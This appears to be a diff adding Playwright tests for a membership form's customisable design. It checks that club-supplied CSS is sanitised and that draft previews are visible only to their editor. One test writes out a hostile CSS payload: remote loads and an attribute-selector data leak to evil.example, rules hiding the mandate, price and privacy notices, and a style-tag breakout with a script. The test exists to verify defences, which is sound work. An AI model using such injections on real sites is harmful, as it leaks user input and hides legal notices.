@@ -1,0 +1,148 @@
+import type { APIRequestContext, Page } from '@playwright/test';
+import { type App, demoAdmin, expect, test } from '../fixtures/app';
+
+const form = '/f/demo/membership';
+
+async function tokenOf(request: APIRequestContext): Promise<string> {
+  const answer = await request.post('/api/v1/auth/login', { data: demoAdmin });
+  return (await answer.json()).accessToken;
+}
+
+async function postDesign(request: APIRequestContext, data: object, query = '') {
+  const headers = { Authorization: `Bearer ${await tokenOf(request)}` };
+  const answer = await request.post(`/api/v1/club/form-design${query}`, { data, headers });
+  expect(answer.status()).toBe(200);
+  return answer.json();
+}
+
+async function publishedDesign(request: APIRequestContext): Promise<object> {
+  const headers = { Authorization: `Bearer ${await tokenOf(request)}` };
+  return (await request.get('/api/v1/club/form-design', { headers })).json();
+}
+
+/** Everything that a page asks for beyond its own product, and what its policy refused. */
+function listenForEscapes(page: Page, { baseURL }: App): string[] {
+  const escapes: string[] = [];
+  page.on('request', request => {
+    const isOwn = request.url().startsWith(`${baseURL}/`) || request.url().startsWith('data:');
+    if (!isOwn) escapes.push(request.url());
+  });
+  page.on('console', message => {
+    if (/Content Security Policy/i.test(message.text())) escapes.push(message.text());
+  });
+  return escapes;
+}
+
+const styleOf = (page: Page, selector: string, property: string) =>
+  page
+    .locator(selector)
+    .first()
+    .evaluate((element, name) => getComputedStyle(element).getPropertyValue(name), property);
+
+/** Whether the middle of a part, once scrolled to, is that part or something in it. */
+async function isOnTop(page: Page, selector: string): Promise<boolean> {
+  const part = page.locator(selector).first();
+  await part.evaluate(element => element.scrollIntoView({ block: 'center', behavior: 'instant' }));
+  return part.evaluate(element => {
+    const { left, top, width, height } = element.getBoundingClientRect();
+    const found = document.elementFromPoint(left + width / 2, top + height / 2);
+    return width > 0 && height > 0 && element.contains(found);
+  });
+}
+
+let original: object;
+test.beforeEach(async ({ request }) => {
+  original = await publishedDesign(request);
+});
+test.afterEach(({ request }) => postDesign(request, original));
+
+test.describe('additional CSS', () => {
+  test('colours and rounds the form as the club likes', async ({ page, request }) => {
+    const additionalCss = ':root{--accent:#a30262;--radius:3px}\nh1{color:#a30262;font-family:Georgia,serif}';
+    await postDesign(request, { additionalCss });
+    await page.goto(form);
+    await expect(page.locator('h1')).toHaveCSS('color', 'rgb(163, 2, 98)');
+    await expect(page.locator('.foot .primary').first()).toHaveCSS('background-color', 'rgb(163, 2, 98)');
+    expect(await styleOf(page, '.option', 'border-radius')).toBe('3px');
+    expect(await styleOf(page, 'body', 'font-family')).not.toContain('Georgia');
+  });
+
+  test('hides and covers neither mandate, price nor privacy notice, and loads nothing', async ({
+    app,
+    page,
+    request,
+  }) => {
+    const escapes = listenForEscapes(page, app);
+    const attack = `
+      @import url(https://evil.example/x.css);
+      @font-face{font-family:x;src:url(https://evil.example/f)}
+      *{background:url(https://evil.example/all);color:#fff;background-color:#fff;opacity:0;display:none;
+        font-size:1px;box-shadow:0 -24px 0 48px #fff;padding:0 0 96px;border:16px solid #fff}
+      input[value^="a"]{background:url(https://evil.example/a)}
+      .mandate,.mandate *,.privacy *,.price-sums *,.price-lines *{color:#fff;background:#fff;visibility:hidden}
+      .mandate::after,p::before,span::after{content:"";padding:96px;background:#fff;box-shadow:0 0 0 48px #fff}
+      body+*,html~*{position:fixed;inset:0;z-index:99999;background:#fff}
+      </style><script>alert(1)</script>`;
+    await postDesign(request, { additionalCss: attack });
+    await page.setViewportSize({ width: 1280, height: 900 });
+    await page.goto(form);
+    await page.locator('[data-live]').waitFor();
+    await page.locator('input[name="membershipId"]').first().check();
+    await page.locator('input[name="paymentMethod"][value="SepaDirectDebit"]').check();
+    for (const part of ['.mandate p', '.mandate dd', '.privacy label', '.price-sums dd', '.tariffs .aside']) {
+      expect(await isOnTop(page, part), part).toBe(true);
+      expect(await styleOf(page, part, 'color'), part).not.toBe('rgb(255, 255, 255)');
+      expect(Number.parseFloat(await styleOf(page, part, 'font-size')), part).toBeGreaterThanOrEqual(12);
+    }
+    await page.getByRole('button', { name: 'Angaben prüfen' }).last().click();
+    const error = page.locator('.error').first();
+    await expect(error).toBeVisible();
+    expect(await isOnTop(page, '.error')).toBe(true);
+    expect(escapes).toEqual([]);
+  });
+});
+
+test.describe('the draft of a design', () => {
+  test('is seen by its editor at ?preview=1, and by nobody else', async ({ browser, page, request }) => {
+    await postDesign(request, { presetDesign: 'Classic' });
+    const before = await publishedDesign(request);
+    await postDesign(request, { presetDesign: 'Dark' }, '?preview=true');
+    expect(await publishedDesign(request)).toEqual(before);
+    const scheme = (of: Page) => styleOf(of, ':root', 'color-scheme');
+
+    await page.goto('/login');
+    await page.getByLabel('E-Mail-Adresse').fill(demoAdmin.email);
+    await page.getByLabel('Passwort', { exact: true }).fill(demoAdmin.password);
+    await page.getByRole('button', { name: 'Anmelden' }).click();
+    await page.waitForURL(/dashboard|submissions/);
+    await page.goto(`${form}?preview=1`);
+    expect(await scheme(page)).toBe('dark');
+    expect(await page.locator('input[name="formToken"]').inputValue()).toBe('');
+    await page.goto(form);
+    expect(await scheme(page)).toBe('light');
+
+    const stranger = await browser.newPage();
+    await stranger.goto(`${form}?preview=1`);
+    expect(await scheme(stranger)).toBe('light');
+    expect(await stranger.locator('input[name="formToken"]').inputValue()).not.toBe('');
+    await stranger.close();
+  });
+});
+
+test('a background image is loaded from the product itself', async ({ app, page, request }) => {
+  const escapes = listenForEscapes(page, app);
+  const headers = { Authorization: `Bearer ${await tokenOf(request)}` };
+  const pixel =
+    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
+  const put = await request.put('/api/v1/club/form-design/background-image', {
+    headers,
+    data: { fileName: 'dot.png', contentType: 'image/png', data: pixel },
+  });
+  const { url: backgroundImageUrl } = await put.json();
+  await postDesign(request, { presetDesign: 'Custom', customDesign: { backgroundImageUrl } });
+  const loaded = page.waitForResponse(response => response.url().endsWith(backgroundImageUrl));
+  await page.goto(form);
+  expect((await loaded).status()).toBe(200);
+  expect(escapes).toEqual([]);
+  await request.delete('/api/v1/club/form-design/background-image', { headers });
+});
